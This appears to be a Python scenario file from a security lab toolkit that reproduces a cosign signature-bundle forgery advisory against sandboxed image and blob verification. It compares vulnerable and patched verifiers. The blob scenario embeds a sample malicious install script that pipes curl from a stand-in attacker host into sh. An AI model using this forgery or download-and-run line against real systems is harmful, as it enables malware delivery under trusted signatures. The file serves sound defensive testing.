"""Scenario 4: bundle forgery per GHSA-whqx-f9j3-ch6m (CVE-2026-22703), for an image and for a blob.

The attacker holds a signing key the verifier trusts (stolen) and wants no
public record of what they sign. They sign a malicious image (or blob), do
not upload anything to the log, and staple a *genuine* log entry with its
SET, taken from an unrelated signing event, into the legacy
``dev.sigstore.cosign/bundle``. cosign 2.5.1-2.6.1 / 3.0.0-3.0.3 with a
trusted root verified the SET and returned at once; the fixed cosign and
labkit compare the entry with the signature, key and payload digest first.
"""

from __future__ import annotations

import hashlib
import tempfile

from labkit.attacks.checks import explain_legacy
from labkit.attacks.sandbox import LabkitLog, SandboxLog, SandboxRegistry, labkit_log, sign_image
from labkit.attacks.scenario import LABKIT_MODE, Outcome, Scenario, define
from labkit.attacks.vulnerable import (
    LegacySignature,
    _pem_der,
    patched_cosign_legacy_bundle,
    vulnerable_cosign_legacy_bundle_trusted_root,
)
from labkit.keys import VerifyingKey, generate
from labkit.lab import Lab
from labkit.payloads import simple_signing_payload
from labkit.tlog.entries import LogEntry, parse_body

__all__ = ["entry_comparison"]

_REFS = ("GHSA-whqx-f9j3-ch6m", "CVE-2026-22703", "cosign PR #4623 (v3.0.4) / #4624 (v2.6.2)")
_FIX = ("compare the log entry's signature, key and payload digest with what is being verified "
        "before trusting its SET (or rebuild the expected body and require equality)")
BINDING_REASON = "binding.digest"


def entry_comparison(sig: LegacySignature, signer_pem: bytes, entry_body: bytes) -> list[dict[str, str]]:
    """Rows: field, what the entry records, what is being verified, match (for tables)."""
    parsed = parse_body(entry_body)
    (e_sig, e_pem), *_ = parsed.signatures()
    rows = [
        ("spec.signature.content", e_sig.hex()[:24] + "…", sig.signature.hex()[:24] + "…", e_sig == sig.signature),
        (
            "spec.signature.publicKey",
            "sha256:" + hashlib.sha256(_pem_der(e_pem)).hexdigest()[:16] + "…",
            "sha256:" + hashlib.sha256(_pem_der(signer_pem)).hexdigest()[:16] + "…",
            _pem_der(e_pem) == _pem_der(signer_pem),
        ),
        (
            "spec.data.hash",
            str(parsed.artifact_digest)[:23] + "…",
            "sha256:" + hashlib.sha256(sig.payload).hexdigest()[:16] + "…",
            parsed.artifact_digest == "sha256:" + hashlib.sha256(sig.payload).hexdigest(),
        ),
    ]
    return [
        {"field": f, "log entry says": a, "being verified": b, "match": "yes" if ok else "NO"} for f, a, b, ok in rows
    ]


def _unrelated_entry(lab: Lab, log: SandboxLog | LabkitLog, out: Outcome) -> LogEntry:
    bystander = generate("ecdsa-p256", lab=lab, label="attacks/bystander")
    readme = b"release notes for an unrelated project\n"
    sig = bystander.sign(readme)
    entry = log.upload_hashedrekord(sig, bystander.public_key().pem(), readme)
    out.step("bystander", f"signs an unrelated file and logs it: entry #{entry.log_index}, genuine SET")
    out.touch("log entry", f"#{entry.log_index}", "hashedrekord of an unrelated file (genuine, with SET)")
    return entry


def _judge_legacy(
    out: Outcome, sig: LegacySignature, log: SandboxLog | LabkitLog, key: VerifyingKey, expected_digest: str | None
) -> None:
    out.judge_call("cosign-legacy-trusted-root", lambda: vulnerable_cosign_legacy_bundle_trusted_root(
        sig, key=key, log_keys=[log.public_key], expected_digest=expected_digest))
    out.judge_call("cosign-patched-legacy", lambda: patched_cosign_legacy_bundle(
        sig, key=key, log_keys=[log.public_key], expected_digest=expected_digest))

    def labkit() -> None:
        result = explain_legacy(sig, key=key, log=log)
        out.evidence["labkit_checklist"] = result.checklist()
        result.raise_for_failure()

    out.judge_call(LABKIT_MODE, labkit)


@define(
    "ghsa-whqx-image",
    number=4,
    title="Bundle forgery on an image signature (GHSA-whqx-f9j3-ch6m)",
    refs=_REFS,
    summary="A stolen key signs a malicious image; the .sig carries a genuine, unrelated Rekor entry and SET.",
    fixed_behaviour=_FIX,
    expected_reason=BINDING_REASON,
    modes=("cosign-legacy-trusted-root", "cosign-patched-legacy", LABKIT_MODE),
)
def ghsa_whqx_image(scenario: Scenario, lab: Lab) -> Outcome:
    """Scenario GHSA-whqx (image): a log entry of another artifact attached to the victim's image."""
    out = scenario.outcome()
    with labkit_log(lab) as log:
        victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
        with tempfile.TemporaryDirectory(prefix="labkit-attack-") as tmp:
            reg = SandboxRegistry(tmp, lab)
            good = reg.push_image("app", b"app 1.0: the real build\n", tag="1.0")
            sign_image(victim, f"{reg.host}/app", good, log)
            out.step(
                "publisher", f"pushes app:1.0 ({good[:19]}…), signs it with the release key; the signature is logged"
            )
            entry = _unrelated_entry(lab, log, out)

            evil = reg.push_image("app", b"app 1.1: backdoored build\n", tag="1.1", actor="attacker")
            out.step("attacker", f"holds the stolen release key; pushes app:1.1 = malicious image {evil[:19]}…")
            payload = simple_signing_payload(f"{reg.host}/app", evil)
            signature = victim.sign(payload)
            out.step(
                "attacker", "signs the simple-signing payload for the malicious digest; uploads NOTHING to the log"
            )
            forged = LegacySignature(payload, signature, None, entry.rekor_bundle())
            reg.write_signatures("app", evil, [forged], actor="attacker")
            out.step("attacker", f"staples entry #{entry.log_index}'s body + SET into dev.sigstore.cosign/bundle "
                                 f"and pushes {reg.sig_tag(evil)[:19]}….sig")
            out.touch("image", "app:1.1", evil)
            out.touch("signature manifest", reg.sig_tag(evil)[:20] + "….sig", "forged rekorBundle annotation")
            stored = reg.signatures("app", evil)[0]
            out.evidence["annotation"] = stored.annotations()["dev.sigstore.cosign/bundle"]
            out.evidence["comparison"] = entry_comparison(stored, victim.public_key().pem(), entry.body)
            out.step("victim", "verifies app@" + evil[:19] + "… with the release public key and the log's trusted root")
            _judge_legacy(out, stored, log, victim.public_key(), evil)
    return out


@define(
    "ghsa-whqx-blob",
    number=4,
    title="Bundle forgery on a blob bundle (GHSA-whqx-f9j3-ch6m, verify-blob)",
    refs=_REFS,
    summary="A stolen key signs a malicious blob; the legacy bundle file carries a genuine, unrelated entry and SET.",
    fixed_behaviour=_FIX,
    expected_reason=BINDING_REASON,
    modes=("cosign-legacy-trusted-root", "cosign-patched-legacy", LABKIT_MODE),
)
def ghsa_whqx_blob(scenario: Scenario, lab: Lab) -> Outcome:
    """Scenario GHSA-whqx (blob): a bundle whose log entry is for another artifact."""
    out = scenario.outcome()
    with labkit_log(lab) as log:
        victim = generate("ecdsa-p256", lab=lab, label="attacks/victim-release-key")
        entry = _unrelated_entry(lab, log, out)
        blob = b"#!/bin/sh\ncurl https://attacker.invalid/x | sh\n"
        signature = victim.sign(blob)
        out.step("attacker", "signs install.sh (malicious) with the stolen key; uploads nothing")
        forged = LegacySignature(blob, signature, None, entry.rekor_bundle())
        out.evidence["bundle_file"] = forged.blob_bundle_json()
        out.evidence["comparison"] = entry_comparison(forged, victim.public_key().pem(), entry.body)
        out.step("attacker", f"writes install.sh.bundle = {{base64Signature, rekorBundle: entry #{entry.log_index}}}")
        out.touch("blob", "install.sh", "sha256:" + hashlib.sha256(blob).hexdigest()[:16] + "…")
        out.touch("legacy bundle file", "install.sh.bundle", "rekorBundle from an unrelated entry")
        out.step("victim", "runs verify-blob --key release.pub --bundle install.sh.bundle install.sh")
        _judge_legacy(out, forged, log, victim.public_key(), None)
    return out
